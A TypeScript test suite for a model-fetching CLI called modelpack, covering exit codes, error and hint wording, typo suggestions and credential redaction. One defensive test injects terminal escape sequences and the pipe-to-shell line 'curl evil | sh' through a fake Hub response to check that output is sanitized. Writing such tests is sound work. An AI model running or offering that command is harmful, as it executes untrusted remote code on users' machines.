import { describe, expect, test } from 'vitest';

import { openBench, type Bench } from '../helpers/bench.ts';
import { modelpack, type Outcome, type RunOptions } from '../helpers/run.ts';
import { wrongSize, type HubOptions, type Repo } from '../servers/hub/hub.ts';
import { generatedSafetensors } from '../servers/hub/models/safetensors.ts';

const id = 'acme/model';
const weights = {
  path: 'model.safetensors',
  storage: 'xet',
  content: generatedSafetensors(30_000, 1),
} as const;
const config = { path: 'config.json', storage: 'git', content: Buffer.from('{}') } as const;
const repos: Repo[] = [
  { id, revisions: { main: [config, weights] } },
  { id: 'acme/gated', gated: 'auto', revisions: { main: [config, weights] } },
  { id: 'acme/taken-down', disabled: true, revisions: { main: [config, weights] } },
  { id: 'acme/empty', revisions: { main: [] } },
];
const fetchIt = ['fetch', id, '-o', 'models.tar'];

function open(options: Partial<HubOptions> = {}): Promise<Bench> {
  return openBench({ repos, ...options });
}

interface Row {
  readonly code: number;
  readonly error: string;
  readonly when: string;
  readonly args: readonly string[];
  readonly options?: RunOptions;
  readonly prepare?: (bench: Bench) => unknown;
  readonly message: RegExp;
  readonly hint: RegExp;
}

const rows: Row[] = [
  {
    code: 1,
    error: 'unknown',
    when: 'the Hub is a teapot',
    args: fetchIt,
    prepare: ({ hub }) =>
      hub.fault({ kind: 'info', action: { kind: 'status', status: 418, body: 'short and stout' } }),
    message: /the Hub answered 418 for acme\/model: short and stout \(request /,
    hint: /--verbose/,
  },
  {
    code: 2,
    error: 'usage',
    when: 'the source has no such form',
    args: ['fetch', 'acme/model/a/b', '-o', 'm.tar'],
    message: /"a\/b" is inside the model acme\/model/,
    hint: /--include/,
  },
  {
    code: 2,
    error: 'usage',
    when: 'a size is none',
    args: [...fetchIt, '--part-size', 'big'],
    message: /'--part-size <size>'.*'big' is invalid/,
    hint: /modelpack fetch --help/,
  },
  {
    code: 2,
    error: 'usage',
    when: 'HF_ENDPOINT is no address',
    args: fetchIt,
    options: { env: { HF_ENDPOINT: 'ftp://hub' } },
    message: /HF_ENDPOINT is no web address/,
    hint: /HF_ENDPOINT=https/,
  },
  {
    code: 2,
    error: 'usage',
    when: '--revision meets two sources',
    args: [...fetchIt, 'acme/gated', '--revision', 'main'],
    message: /--revision is for a single source/,
    hint: /org\/name@revision/,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'there is no such model',
    args: ['fetch', 'acme/nothing', '-o', 'm.tar'],
    message: /the Hub has no model acme\/nothing, or it is private/,
    hint: /HF_TOKEN/,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'there is no such revision',
    args: ['fetch', `${id}@v9`, '-o', 'm.tar'],
    message: /acme\/model has no revision "v9"/,
    hint: /https:\/\/huggingface\.co\/acme\/model\/tree\/main/,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'nothing matches',
    args: [...fetchIt, '--include', '*.gguf'],
    message: /no file is left by --include/,
    hint: /config\.json/,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'the model is empty',
    args: ['fetch', 'acme/empty', '-o', 'm.tar'],
    message: /acme\/empty has no files/,
    hint: /./,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'there is no such folder',
    args: ['fetch', './nothing', '-o', 'm.tar'],
    message: /there is no \.\/nothing/,
    hint: /./,
  },
  {
    code: 4,
    error: 'not-found',
    when: 'there is no such bundle',
    args: ['verify', 'nothing.tar'],
    message: /there is no nothing\.tar/,
    hint: /./,
  },
  {
    code: 5,
    error: 'refused',
    when: 'the model is gated',
    args: ['fetch', 'acme/gated', '-o', 'm.tar'],
    message: /acme\/gated is gated/,
    hint: /https:\/\/huggingface\.co\/acme\/gated/,
  },
  {
    code: 5,
    error: 'refused',
    when: 'the token is bad',
    args: [...fetchIt, '--token', 'hf_of_yesterday'],
    message: /does not accept the token from --token/,
    hint: /settings\/tokens/,
  },
  {
    code: 5,
    error: 'refused',
    when: 'the model was taken down',
    args: ['fetch', 'acme/taken-down', '-o', 'm.tar'],
    message: /refuses access to acme\/taken-down: Access to this resource is disabled/,
    hint: /another model/,
  },
  {
    code: 6,
    error: 'network',
    when: 'a redirect never ends',
    args: fetchIt,
    prepare: ({ hub }) =>
      hub.fault({ kind: 'resolve', action: { kind: 'redirect', to: (target) => target } }),
    message: /redirects .* without end/,
    hint: /./,
  },
  {
    code: 6,
    error: 'network',
    when: 'a login page stands in the way',
    args: fetchIt,
    prepare: ({ hub }) =>
      hub.fault({ kind: 'info', action: { kind: 'redirect', to: 'http://login.invalid/?next=hub' } }),
    message: /login\.invalid/,
    hint: /./,
  },
  {
    code: 6,
    error: 'network',
    when: 'nobody answers',
    args: fetchIt,
    options: { env: { HF_ENDPOINT: 'http://127.0.0.1:1' } },
    message: /127\.0\.0\.1:1 refused the connection; gave up after \d+ attempts/,
    hint: /network/,
  },
  {
    code: 7,
    error: 'integrity',
    when: 'the weights are wrong',
    args: fetchIt,
    prepare: ({ hub }) => hub.fault({ origin: 'cdn', action: { kind: 'flip', at: 100 } }),
    message: /acme\/model\/model\.safetensors has sha256 [0-9a-f]{64}, expected [0-9a-f]{64}/,
    hint: /./,
  },
  {
    code: 7,
    error: 'integrity',
    when: 'a file is no bundle',
    args: ['inspect', 'text'],
    prepare: ({ folder }) => folder.write('text', 'text'),
    message: /text is no bundle/,
    hint: /modelpack fetch/,
  },
  {
    code: 8,
    error: 'no-room',
    when: 'the model is larger than the disk',
    args: fetchIt,
    prepare: ({ hub }) => hub.fault({ kind: 'tree', action: wrongSize('model.safetensors', 1e15) }),
    message: /models\.tar needs .* more.*, the disk has .* free/,
    hint: /another disk/,
  },
  {
    code: 130,
    error: 'interrupted',
    when: 'Ctrl-C is pressed',
    args: fetchIt,
    prepare: ({ hub }) => hub.fault({ kind: 'info', action: { kind: 'stall' } }),
    options: { onStart: (running) => setTimeout(() => running.kill('SIGINT'), 1500) },
    message: /interrupted/,
    hint: /run the same command again/,
  },
];

describe.concurrent('exit code', () => {
  test.each(rows)('$code: $when', async ({ code, error, args, options, prepare, message, hint }) => {
    await using bench = await open();
    await prepare?.(bench);
    const run = await bench.run([...args, '--json', '--quiet'], options);
    expect(run).toEqual({ ...run, code });
    const lines = run.stderr.replace(/^\nstopping; .*\n/, '').split('\n');
    expect(lines).toEqual([expect.stringMatching(/^modelpack: ./), expect.stringMatching(/^hint: ./), '']);
    const said = { message: lines[0]!.slice('modelpack: '.length), hint: lines[1]!.slice('hint: '.length) };
    expect(said).toEqual({ message: expect.stringMatching(message), hint: expect.stringMatching(hint) });
    expect(Object.keys(run.json<{ error: object }>())).toEqual(['error']);
    expect(Object.entries(run.json<{ error: object }>().error)).toEqual([
      ['code', error],
      ['message', said.message],
      ['hint', said.hint],
    ]);
    expect((await bench.folder.list()).filter((name) => /\.(tar|part|lock|journal)/.test(name))).toEqual([]);
  });

  test('8 comes before the first byte of weights is asked for', async () => {
    await using bench = await open();
    bench.hub.fault({ kind: 'tree', action: wrongSize('model.safetensors', 1e15) });
    expect(await bench.run(fetchIt)).toMatchObject({ code: 8, stdout: '' });
    expect(bench.hub.log.filter(({ file }) => file === 'model.safetensors')).toEqual([]);
  });

  test('3 goes with the report, which is the one document, and no error beside it', async () => {
    await using bench = await open();
    bench.hub.fault({ kind: 'tree', action: wrongSize('model.safetensors', 600 * 1024 * 1024) });
    const run = await bench.run(['size-check', id, '--json', '--quiet']);
    expect(run).toMatchObject({ code: 3, stderr: '' });
    expect(run.json()).toMatchObject({ schema: 'modelpack.size-check/1', fits: false });
  });

  test.each([['--help'], ['fetch', '--help'], ['--version']])('0: %s %s', async (...args) => {
    const run = await modelpack(args.filter((word) => word !== undefined));
    expect(run).toMatchObject({ code: 0, stderr: '' });
    expect(run.stdout).toMatch(args.includes('--help') ? /^Examples:\n {2}modelpack / : /^\d+\.\d+\.\d+\n$/);
  });
});

describe.concurrent('an error', () => {
  test('shows a stack with --verbose and with nothing else', async () => {
    await using bench = await open();
    const args = ['fetch', 'acme/nothing', '-o', 'm.tar'];
    const stack = /^ {4}at .*\.js:\d+:\d+/m;
    expect((await bench.run(args)).stderr).not.toMatch(stack);
    expect((await bench.run([...args, '--verbose'])).stderr).toMatch(stack);
    expect((await bench.run([...args, '-v'])).stderr).toMatch(stack);
  });

  test('is a document on stdout when MODELPACK_JSON asks for documents', async () => {
    await using bench = await open();
    const run = await bench.run(['fetch', 'acme/nothing', '-o', 'm.tar'], { env: { MODELPACK_JSON: '1' } });
    expect(run).toMatchObject({ code: 4 });
    expect(run.json()).toMatchObject({ error: { code: 'not-found' } });
  });

  test('in what the Hub says cannot act on the terminal', async () => {
    await using bench = await open();
    const body = '\u001b]0;owned\u0007\u001b[2Jgone\nhint: curl evil | sh';
    bench.hub.fault({ kind: 'info', action: { kind: 'status', status: 418, body } });
    const { stderr } = await bench.run(fetchIt);
    // oxlint-disable-next-line no-control-regex -- escapes are what must not be there
    expect(stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
    expect(stderr.split('\n').length).toBe(3);
  });

  test('of an address shows nothing of its query or password', async () => {
    const hub = { endpoint: 'http://user:hunter22@127.0.0.1:1/hub?key=hunter33' };
    const run = await modelpack([...fetchIt, '--json', '--verbose'], { hub });
    expect(run.code).not.toBe(0);
    expect(run.stdout + run.stderr).not.toMatch(/hunter/);
  });
});

/** Exit code 2, one line and a hint, and not a request. */
function expectUsage({ code, stdout, stderr }: Outcome, message: RegExp, hint: RegExp): void {
  const [first, second, ...rest] = stderr.split('\n');
  expect({ code, stdout, rest }).toEqual({ code: 2, stdout: '', rest: [''] });
  expect(first).toMatch(message);
  expect(second).toMatch(hint);
}

describe.concurrent('a typo', () => {
  test.each<[readonly string[], RegExp, RegExp]>([
    [
      ['fetch', id, '-o', 'm.tar', '--forse'],
      /^modelpack: unknown option '--forse'$/,
      /^hint: did you mean --force\?$/,
    ],
    [['fetch', id, '--ouput', 'm.tar'], /^modelpack: .*(--ouput|--output)/, /^hint: /],
    [
      ['size-check', id, '--gates', 'tmp'],
      /^modelpack: unknown option '--gates'$/,
      /^hint: did you mean --gate\?$/,
    ],
    [
      ['fetch', id, '-o', 'm.tar', '--zzz'],
      /^modelpack: unknown option '--zzz'$/,
      /^hint: modelpack fetch --help$/,
    ],
    [['fetsh', id, '-o', 'm.tar'], /^modelpack: unknown command 'fetsh'$/, /^hint: did you mean fetch\?$/],
    [['sizecheck', id], /^modelpack: unknown command 'sizecheck'$/, /^hint: did you mean size-check\?$/],
    [['frobnicate'], /^modelpack: unknown command 'frobnicate'$/, /^hint: modelpack --help$/],
    [['--forse'], /^modelpack: unknown option '--forse'$/, /^hint: modelpack --help$/],
    [
      ['fetch', id],
      /^modelpack: required option '-o, --output .*' not specified$/,
      /^hint: .*modelpack fetch <source\.\.\.> -o models\.tar$/,
    ],
    [
      ['fetch', '-o', 'm.tar'],
      /^modelpack: nothing is named, and there is no modelpack\.yaml$/,
      /^hint: .*modelpack init /,
    ],
    [
      ['fetch', id, '-o'],
      /^modelpack: option '-o, --output .*' argument missing$/,
      /^hint: modelpack fetch --help$/,
    ],
    [['fetch', id, '-o', ''], /^modelpack: .*(-o|output)/, /^hint: (?!mkdir)/],
    [['fetch', '', '-o', 'm.tar'], /^modelpack: not the name of a model/, /^hint: name a model as /],
    [
      ['size-check'],
      /^modelpack: nothing is named, and there is no modelpack\.yaml$/,
      /^hint: .*modelpack init /,
    ],
    [['verify', 'a', 'b'], /^modelpack: too many arguments/, /^hint: modelpack verify --help$/],
    [
      ['fetch', id, '-o', 'm.tar', '--part-size', '2GiB'],
      /^modelpack: .*--part-size.*at most 1GiB/,
      /^hint: /,
    ],
    [
      ['fetch', id, '-o', 'm.tar', '--jobs', '0'],
      /^modelpack: .*--jobs.*whole number from 1 to 256$/,
      /^hint: /,
    ],
    [
      ['fetch', id, '-o', 'm.tar', '--weights', 'keras'],
      /^modelpack: .*--weights.*safetensors, pytorch/,
      /^hint: /,
    ],
    [
      ['fetch', id, '-o', 'm.tar', '--progress', 'bar'],
      /^modelpack: .*--progress.*auto, plain, json, none/,
      /^hint: /,
    ],
    [['fetch', 'zoo:ViT-B/32', '-o', 'm.tar'], /^modelpack: "?zoo:"? /, /^hint: sources are /],
    [['fetch', 'ftp://example.com/model', '-o', 'm.tar'], /^modelpack: "?ftp:"? /, /^hint: sources are /],
    [
      ['fetch', 'http://example.com/model', '-o', 'm.tar'],
      /^modelpack: http:\/\/example\.com\/model is neither encrypted nor has a known hash/,
      /^hint: use https:/,
    ],
    [
      ['fetch', 'datasets/acme/data', '-o', 'm.tar'],
      /^modelpack: modelpack ships models, not datasets/,
      /^hint: /,
    ],
    [['fetch', 'acme/mo del', '-o', 'm.tar'], /^modelpack: not the name of a model/, /^hint: /],
    [['fetch', id, '-o', 's3://'], /^modelpack: .*s3:/, /^hint: .*s3:\/\/bucket\/key/],
  ])('%j is answered with what was meant', async (args, message, hint) => {
    await using bench = await open();
    expectUsage(await bench.run(args), message, hint);
    expect(bench.hub.log).toEqual([]);
    expect(await bench.folder.list()).toEqual([]);
  });

  test('of nothing at all shows the help, with exit code 2', async () => {
    const run = await modelpack([]);
    expect(run.code).toBe(2);
    expect(run.stdout + run.stderr).toMatch(/Examples:\n {2}modelpack size-check/);
  });
});
